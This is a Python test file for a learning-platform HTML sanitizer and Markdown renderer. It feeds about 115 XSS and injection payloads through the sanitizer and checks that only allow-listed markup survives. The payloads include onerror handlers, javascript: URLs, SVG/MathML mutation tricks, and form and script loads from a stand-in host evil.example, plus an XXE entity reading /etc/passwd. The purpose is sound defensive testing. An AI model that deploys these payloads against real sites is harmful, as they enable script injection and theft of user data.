"""Hostile HTML in many shapes is held against the allow-list, as a browser's parser sees it."""

import re

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.content.document import Document, Picture
from lms.content.markdown import render
from lms.content.sanitize import ATTRIBUTES, TAGS, plain, sanitize

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x" onerror\n=\n"alert(1)">',
    '<img """><script>alert(1)</script>">',
    "<img src='/media/x' onload=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img srcset='x 1x' sizes=1 src=//evil.example/x>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href='javascript:alert(1)//'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://evil.example' target=_blank ping=//evil.example>x</a>",
    "<a href='#top' id=x name=y onclick=alert(1)>x</a>",
    "<form action=//evil.example><input name=pin><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select><option onclick=alert(1)>x</select>",
    "<textarea></textarea><script>alert(1)</script>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html manifest=x><head></head>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<?import namespace='t' implementation='x'>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><p>&y;</p>",
    "<x onmouseover=alert(1)>hover</x>",
    "<p id=main class='topbar hidden'>x</p>",
    "<li id='fn-x\" onclick=alert(1)'>x</li>",
    "<table background=javascript:alert(1)><td align='left;x'>x</td></table>",
    "<ol start='1e9' onscroll=alert(1)><li>x</ol>",
    "<sup id=login>x</sup>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JaVaScRiPt:alert(1) 'y')",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](media/stub.png 'a\" onerror=\"alert(1)')",
    '![x" onerror="alert(1)](media/stub.png)',
    "![x](media/stub.png#\"onerror='alert(1)')",
    "![](//evil.example/pixel.gif)",
    "<javascript:alert(1)>",
    "<https://x.example/\"onclick='alert(1)'>",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "```<script>\nalert(1)\n```",
    "```{onclick=alert(1) #id .class}\nx\n```",
    '!!! tip" onclick="alert(1)\n    x',
    '!!! tip "<script>alert(1)</script>"\n    x',
    "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "[^1]\n\n[^1]: [x](javascript:alert(1))",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "term\n:   <svg onload=alert(1)>",
    "<div markdown='1'>\n\n[x](javascript:alert(1))\n\n</div>",
    "*x*{: onclick=alert(1) }",
    "\x02amp\x03lt;script\x02amp\x03gt;",
    "\x02wzxhzdk:0\x03 &amp;",
    "\x02klzzwxh:0000\x03 <b>",
    '{{ fact:x"><script>alert(1)</script> }}',
    "⟦check:0⟧<script>",
]


def against_the_list(text: str) -> None:
    """Parse as a browser does and hold each element and attribute against the allow-list."""
    tree = html5lib.parseFragment(text, namespaceHTMLElements=False)
    for element in tree.iter():
        if element is tree:
            continue
        assert isinstance(element.tag, str), f"a comment in {text!r}"
        assert element.tag in TAGS, text
        for name, value in element.attrib.items():
            assert ATTRIBUTES[element.tag][name](value), (name, value)
            assert not name.startswith("on")
            assert name not in ("style", "title", "name", "srcset")
            if name == "id":
                assert re.fullmatch(r"fn(ref\d*)?-[a-z0-9-]+", value)
            if name == "href":
                assert value.startswith("#fn")
            if name == "src":
                assert value.startswith("/")
                assert not value.startswith("//")


@pytest.mark.parametrize("vector", VECTORS)
def test_html_is_held_to_the_list(vector: str) -> None:
    safe, _ = sanitize(vector)
    against_the_list(safe)
    assert sanitize(safe)[0] == safe


@pytest.mark.parametrize("vector", VECTORS + MARKDOWN)
@pytest.mark.parametrize(
    "shape", ["{}", "a {} b", "- {}\n- b", "> {}", "# {}", "**{}**", "[{}](x)", "![{}](media/stub.png)"]
)
def test_markdown_is_held_to_the_list(vector: str, shape: str) -> None:
    picture = {"media/stub.png": Picture("/media/0a", 4, 3)}
    against_the_list(render(Document(shape.replace("{}", vector), media=picture)).html)


@given(st.text(alphabet="<>/='\"& \n!-[]()`*_#x:script:img onerror", max_size=80))
@settings(max_examples=300)
def test_made_up_html_and_markdown_is_held_to_the_list(text: str) -> None:
    safe, _ = sanitize(text)
    against_the_list(safe)
    against_the_list(render(Document(text)).html)


def test_the_check_bites() -> None:
    for text in ("<b>x</b>", "<p onclick=x>", "<p id=x>", "<img src=//x>", "<!-- x -->", "<a href=/x>y</a>"):
        with pytest.raises((AssertionError, KeyError)):
            against_the_list(text)


def test_what_is_allowed_passes_unchanged() -> None:
    text = (
        '<h2>T</h2>\n<p>a <em>b</em> <strong>c</strong> <code>d</code><br>e<sup id="fnref2-x-1">'
        '<a aria-label="Back to the text" class="footnote-ref" href="#fn-x-1">1</a></sup></p>\n'
        '<div class="admonition tip"><p class="admonition-title">Tip</p></div>\n'
        '<ol start="3"><li id="fn-x-1">x</li></ol>\n'
        '<img alt="A" height="2" loading="lazy" src="/media/abc.png" width="1">\n<blockquote><hr><pre>x</pre></blockquote>'
        '<dl><dt>a</dt><dd>b</dd></dl><table><thead><tr><th align="left" scope="col">x</th></tr></thead>'
        '<tbody><tr><td align="right">y</td></tr></tbody></table>'
    )
    assert sanitize(text) == (text, [])


def test_what_is_taken_out_is_named() -> None:
    _, taken = sanitize("<b>x</b><p style='x' class=note class=x>y</p><img alt><!-- z --><a href='/x'>w</a>")
    assert taken == ["<b>", "style on <p>", "class on <p>", "a comment", "href on <a>"]


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("<p>a <em>b</em></p><p>c</p>", "a b\nc"),
        ("<p>x&nbsp;&amp;&#x27E6; &lt;b&gt;</p>", "x &⟦ <b>"),
        ('<img alt="A stub" src="/x"><img src="/y">', "A stub"),
        ('<p>a<sup><a href="#fn-x-1">1</a></sup>b</p>', "ab"),
        ("<table><tr><td>1</td><td>2</td></tr></table>", "1 2"),
        ("a<br>b", "a\nb"),
        ("<p>x ⟦fact:y⟧ z</p>⟦check:0⟧", "x z"),
        ("", ""),
    ],
)
def test_plain(html: str, words: str) -> None:
    assert plain(html) == words
